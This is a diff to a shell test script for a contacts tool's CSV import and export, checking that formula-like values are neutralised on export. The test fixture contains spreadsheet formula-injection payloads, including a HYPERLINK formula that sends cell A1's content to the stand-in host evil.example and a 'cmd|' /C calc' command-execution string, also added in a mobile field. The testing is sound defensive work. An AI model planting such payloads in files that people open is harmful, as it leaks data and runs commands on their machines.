@@ -16,12 +16,13 @@ expect_mode "its file is still 0600" 600 "$T_TMP/open/deep/s.db"
 expect_mode "its lock file is still 0600" 600 "$T_TMP/open/deep/s.db-lock"
 
 cat >"$T_TMP/people.csv" <<'CSV'
-name,organisation,role,notes
-"=HYPERLINK(""http://evil.example/?""&A1;""Click"")",Youth Service,,
-"+cmd|' /C calc'!A0",Youth Service,,
-@SUM(1+1),Youth Service,,
--2+3,Youth Service,,
-Karen Proctor,Cluster 3 Partnership,=1+1,
+name,organisation,role,notes,phone,mobile
+"=HYPERLINK(""http://evil.example/?""&A1;""Click"")",Youth Service,,,,
+"+cmd|' /C calc'!A0",Youth Service,,,,
+@SUM(1+1),Youth Service,,,,
+-2+3,Youth Service,,,,
+Karen Proctor,Cluster 3 Partnership,=1+1,,,
+Phone Test,Youth Service,,,+44 (0)1632 960-200,+1+cmd|' /C calc'!A0
 CSV
 expect_status 0 "formula-like names import as typed" pd import people "$T_TMP/people.csv"
 for f in export.csv minutes.md backup.db; do
@@ -40,9 +41,11 @@ expect_out "+ is guarded" "^'\+cmd\|' /C calc'!A0,"
 expect_out "@ is guarded" "^'@SUM\(1\+1\),"
 expect_out "- is guarded" "^'-2\+3,"
 expect_out "a formula in another column is guarded" "^Karen Proctor,,'=1\+1,"
+expect_out "a phone number is not (it cannot call a function); a formula in the mobile is" \
+	"^Phone Test,,,Youth Service,\+44 \(0\)1632 960-200,'\+1\+cmd\|' /C calc'!A0,"
 if grep -Eq "^(=|\+|@|-)" "$T_TMP/export.csv"; then fail "no line starts a formula"; else ok "no line starts a formula"; fi
 expect_status 0 "the guarded export imports back" pd import people "$T_TMP/export.csv"
-expect_out "the guard is not stored: nothing changes" ': 0 added, 0 updated, 5 unchanged$'
+expect_out "the guard is not stored: nothing changes" ': 0 added, 0 updated, 6 unchanged$'
 
 # --- error messages name the bad value, not the record ---------------------
 cat >"$T_TMP/bad.csv" <<'CSV'
